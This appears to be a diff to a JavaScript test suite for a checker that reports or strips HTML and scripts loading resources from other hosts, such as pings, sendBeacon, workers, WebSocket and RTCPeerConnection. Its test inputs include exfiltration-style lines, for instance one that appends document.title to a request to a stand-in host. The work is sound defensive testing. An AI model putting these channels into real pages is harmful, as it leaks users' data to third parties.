@@ -18,6 +18,17 @@ describe('other hosts', () => {
     ['an inline style', '<p style="color:red;background:url(https://evil.example/a.png)">x</p>'],
     ['a style tag', '<style>@import "https://evil.example/a.css"; .a{color:red}</style>'],
     ['a base', '<base href="https://evil.example/">'],
+    [
+      'a background',
+      '<table background="//evil.example/a.png"><tr><td background="https://evil.example/b">x</td></tr></table>',
+    ],
+    ['a filter', '<svg><filter><feImage href="https://evil.example/a.png"/></filter></svg>'],
+    ['a script in SVG', '<svg><script href="https://evil.example/a.js"></script></svg>'],
+    ['a ping', '<a href="about.html" ping="https://evil.example">x</a>'],
+    [
+      'a speculation rule',
+      '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
+    ],
     ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
   ])('%s is taken out', (_, main) => {
     const { wrong, html } = check(page({ main }));
@@ -62,6 +73,13 @@ describe('other hosts', () => {
     "new WebSocket('wss://api.example')",
     "img.src = 'https://api.example/x.png'",
     "request.open('GET', 'https://api.example/x')",
+    "navigator.sendBeacon('https://api.example/x', data)",
+    "new EventSource('https://api.example/x')",
+    'new Worker("https://api.example/w.js")',
+    "importScripts ( 'https://api.example/w.js' )",
+    "new Image().src = '//api.example/?' + document.title",
+    "script.setAttribute('src', 'https://api.example/x.js')",
+    "import('\\/\\/api.example/x.js')",
   ])('a script with %s is reported with its line', (code) => {
     const { wrong } = check(page({ main: `<script>\n\n${code}\n</script>` }));
 
@@ -71,6 +89,66 @@ describe('other hosts', () => {
         status: 'failed',
         findings: [{ path: 'index.html', line: 15, message: expect.stringContaining('api.example') }],
       },
+    ]);
+  });
+
+  test.each([
+    ['fetch(address)', 'fetch'],
+    ['fetch(`$' + '{host}/x`)', 'fetch'],
+    ["fetch('ht' + 'tps://api.example')", 'fetch'],
+    ['import(name)', 'import'],
+    ["new Worker('data:text/javascript,postMessage(1)')", 'Worker'],
+    ['new WebSocket(atob(code))', 'WebSocket'],
+    ["request.open('POST', address)", 'XMLHttpRequest'],
+  ])('%s is reported, since nobody can read where it leads', (code, name) => {
+    const { wrong } = check(
+      page({ main: `<button onclick="${code.replaceAll('"', '&quot;')}">Go</button>` }),
+    );
+
+    expect(wrong).toMatchObject([
+      { id: 'external-scripts', findings: [{ line: 13, message: expect.stringContaining(`(${name})`) }] },
+    ]);
+  });
+
+  test.each([
+    "fetch('data/prices.json')",
+    "fetch('data/' + name + '.json')",
+    'fetch(`./data/$' + '{name}.json`)',
+    'picture.src = button.dataset.src;',
+    "new Worker('worker.js')",
+    "dialog.open(); window.open('about.html', '_blank');",
+    'class Shop { fetch() { return this.goods; } }',
+    "const text = 'Bread from the oven, to import';",
+  ])('%s loads nothing from elsewhere', (code) => {
+    expect(check(page({ main: `<script>${code}</script>` })).wrong).toEqual([]);
+  });
+
+  test('a script that a script writes is reported', () => {
+    const { wrong } = check(page({ main: '<script>document.write("<script src=a.js>")</script>' }));
+
+    expect(wrong).toMatchObject([
+      { id: 'external-scripts', findings: [{ message: expect.stringContaining('document.write') }] },
+    ]);
+  });
+});
+
+describe('what no check can look into is reported', () => {
+  test.each([
+    ['peer-connections', '<script>new RTCPeerConnection({})</script>', 'RTCPeerConnection'],
+    [
+      'peer-connections',
+      '<button onclick="new webkitRTCPeerConnection()">x</button>',
+      'webkitRTCPeerConnection',
+    ],
+    ['embedded-pages', '<iframe title="a" srcdoc="<script>x()</script>"></iframe>', 'srcdoc'],
+    ['embedded-pages', '<iframe title="a" src="data:text/html,<script>x()</script>"></iframe>', 'src'],
+    ['embedded-pages', '<object data="data:text/html,x"></object>', 'data'],
+  ])('%s: %s', (id, main, name) => {
+    const { wrong, html } = check(page({ main }));
+
+    expect(html).toBe(page({ main }));
+    expect(wrong).toMatchObject([
+      { id, status: 'failed', findings: [{ line: 13, message: expect.stringContaining(name) }] },
     ]);
   });
 });
